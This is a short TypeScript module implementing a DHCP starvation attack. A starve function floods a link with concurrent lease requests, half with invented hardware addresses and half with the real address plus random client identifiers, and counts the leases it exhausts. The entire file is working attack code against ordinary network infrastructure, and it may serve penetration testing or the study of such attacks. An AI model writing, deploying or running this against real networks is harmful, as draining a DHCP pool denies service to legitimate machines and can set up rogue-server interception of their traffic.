/**
 * DHCP starvation: one machine asks for lease after lease in the names of machines that do not exist. Half of them are
 * invented hardware addresses; the other half keep the true one and invent a client identifier, which servers take for
 * another client as well.
 */
import { randomBytes, randomInt } from "node:crypto";
import type { LinuxLibc } from "../../native/linux/libc.ts";
import { askForLease } from "./dhcp-client.ts";

export interface StarvePlan {
  readonly link: string;
  readonly mac: number;
  /** How many machines to invent. */
  readonly count: number;
  /** Milliseconds for all together. */
  readonly timeout: number;
}

/** How many leases it got. */
export async function starve(libc: LinuxLibc, plan: StarvePlan): Promise<number> {
  const { link, mac, count, timeout } = plan;
  const leases = Array.from({ length: count }, (_, index) =>
    index % 2 === 0
      ? askForLease(libc, { link, mac, timeout, chaddr: 0x020000000000 + randomInt(2 ** 40) })
      : askForLease(libc, { link, mac, timeout, clientIdentifier: Uint8Array.of(0, ...randomBytes(8)) }),
  );
  return (await Promise.all(leases)).filter((lease) => lease !== null).length;
}
